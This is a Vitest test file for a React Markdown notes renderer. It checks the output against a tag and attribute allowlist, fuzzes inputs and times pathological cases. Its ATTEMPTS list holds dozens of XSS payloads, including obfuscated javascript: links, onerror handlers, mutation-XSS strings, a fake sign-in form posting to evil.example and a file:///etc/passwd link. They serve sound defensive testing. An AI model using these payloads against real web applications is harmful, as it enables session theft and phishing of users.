import fc from 'fast-check'
import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test } from 'vitest'
import { NOTES_LENGTH } from '@/lib/app-settings/limits'
import { Notes } from './notes'

const drawn = (text: string) => renderToStaticMarkup(<Notes text={text} />)

/** Every element that notes may ever be made of, with every attribute that it may have. */
const ALLOWED: Record<string, string[]> = {
  div: ['class', 'tabindex'],
  a: ['href', 'rel'],
  span: ['aria-hidden', 'class'],
  pre: ['tabindex'],
  ol: ['start'],
  th: ['align'],
  td: ['align'],
  p: ['class'],
  ...Object.fromEntries(
    'br hr em strong del code blockquote ul li h3 h4 h5 h6 table thead tbody tr'
      .split(' ')
      .map((name) => [name, []]),
  ),
}
const TAG = /<([a-zA-Z][^\s/>]*)((?:\s+[^\s=/>]+(?:="[^"]*")?)*)\s*\/?>/g

/** Holds every tag of `html` against the list: whatever else there is would be a hole. */
function expectHarmless(html: string, from: string) {
  for (const [, name = '', attributes = ''] of html.matchAll(TAG)) {
    const allowed = ALLOWED[name]
    expect(allowed, `<${name}> from ${from}`).toBeDefined()
    for (const [, attribute = '', value = ''] of attributes.matchAll(/([^\s=]+)="([^"]*)"/g)) {
      expect(allowed, `${name} ${attribute} from ${from}`).toContain(attribute)
      if (attribute === 'href') expect(value, from).toMatch(/^(https?:|mailto:|[/#?.]|[^:]*$)/i)
      if (attribute === 'class')
        expect(value, from).toMatch(/^(notes|notes__table|notes__plain|notes__task|sr-only)$/)
    }
  }
  expect(html.replace(TAG, '').replace(/<\/[a-z0-9]+>/g, ''), from).not.toMatch(/</)
}

// What people have broken other portals with: HTML, addresses that run, and ways to hide them.
const ATTEMPTS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{background:url(//evil.example)}</style>',
  '<form action="//evil.example"><input name=password><button>Sign in</button></form>',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<div style="position:fixed;inset:0">Sign in again</div>',
  '<p id="content" class="notice">x</p>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;&#x61;vascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](blob:https://a/b)',
  '[x](file:///etc/passwd)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x](https://evil.example/pixel.gif "title\\" onerror=\\"alert(1)")',
  '![" onerror="alert(1)](x)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
  '[<img src=x onerror=alert(1)>](https://a.example)',
  '`<script>alert(1)</script>`',
  '```html onload=alert(1)\n<script>alert(1)</script>\n```',
  '```"><script>\nx\n```',
  '| <script>alert(1)</script> | [x](javascript:alert(1)) |\n| - | :-: |\n| <img src=x onerror=alert(1)> | y |',
  '- [x] <script>alert(1)</script>',
  'x[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '[^content]\n\n[^content]: clobbers an id',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u202Etxt.exe <script>alert(1)</script>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
]

test.for(ATTEMPTS)('nothing but harmless elements comes of %j', (attempt) => {
  for (const text of [attempt, `before ${attempt} after`, `> ${attempt}`, `# ${attempt}`])
    expectHarmless(drawn(text), text)
})

test('nothing but harmless elements comes of anything that is made of such parts', () => {
  const part = fc.oneof(
    fc.constantFrom(
      ...ATTEMPTS,
      '\n',
      '\n\n',
      '    ',
      '> ',
      '- ',
      '|',
      '`',
      '```',
      '[',
      '](',
      ')',
      '<',
      '>',
      '&',
      '"',
    ),
    fc.string({ unit: 'binary', maxLength: 8 }),
  )
  fc.assert(
    fc.property(fc.array(part, { maxLength: 12 }), (parts) => {
      const text = parts.join('')
      expectHarmless(drawn(text), JSON.stringify(text))
    }),
    { numRuns: 300 },
  )
}, 120_000)

test('links say nothing of where they were followed from, pictures are links, HTML is text', () => {
  expect(drawn('[docs](https://a.example/b?c=d) <b>bold</b>')).toBe(
    '<div class="notes"><p><a href="https://a.example/b?c=d" rel="nofollow noopener noreferrer ugc">docs</a> bold</p></div>',
  )
  expect(drawn('![a cat](https://a.example/cat.png)')).toContain(
    '<a href="https://a.example/cat.png" rel="nofollow noopener noreferrer ugc">a cat</a>',
  )
})

test('what Markdown is for: headings below the card’s, lists, tasks, tables, code', () => {
  const html = drawn(
    '# Fruit\n\n- one\n- [x] two\n\n| a | b |\n| - | -: |\n| 1 | 2 |\n\n~~gone~~ `code` **bold**',
  )
  for (const piece of [
    '<h3>Fruit</h3>',
    '<li>',
    '☑',
    '<table>',
    '<td align="right">2</td>',
    '<del>gone</del>',
  ])
    expect(html).toContain(piece)
  expect(html).not.toMatch(/<h[12]|<input/)
})

test.for([
  ['brackets', '['.repeat(NOTES_LENGTH)],
  ['stars', '*a '.repeat(NOTES_LENGTH / 3)],
  ['quotes', '> '.repeat(NOTES_LENGTH / 2)],
  ['links', '[a]('.repeat(NOTES_LENGTH / 4)],
  ['pipes', '|'.repeat(NOTES_LENGTH)],
  ['lists', '- '.repeat(NOTES_LENGTH / 2)],
  ['tildes', '~a~~'.repeat(NOTES_LENGTH / 4)],
  ['angles', '<a '.repeat(NOTES_LENGTH / 3)],
  ['nested lists', '+ '.repeat(NOTES_LENGTH / 2)],
  ['numbered lists', '1. '.repeat(NOTES_LENGTH / 3)],
  ['nested emphases', `${'**a '.repeat(NOTES_LENGTH / 8)}${'a** '.repeat(NOTES_LENGTH / 8)}`],
  ['nested strikes', `${'~~a '.repeat(NOTES_LENGTH / 8)}${'a~~ '.repeat(NOTES_LENGTH / 8)}`],
  [
    'indented lists',
    Array.from({ length: Math.sqrt(NOTES_LENGTH) }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n'),
  ],
  ['footnotes', '[^a]'.repeat(NOTES_LENGTH / 4)],
] as const)('as many %s as notes hold are drawn in time', { timeout: 60_000 }, ([, text]) => {
  const began = process.cpuUsage() // of this process alone, however busy the machine is
  const html = drawn(text)
  expect(process.cpuUsage(began).user / 1000).toBeLessThan(2500)
  expectHarmless(html, text.slice(0, 20))
})
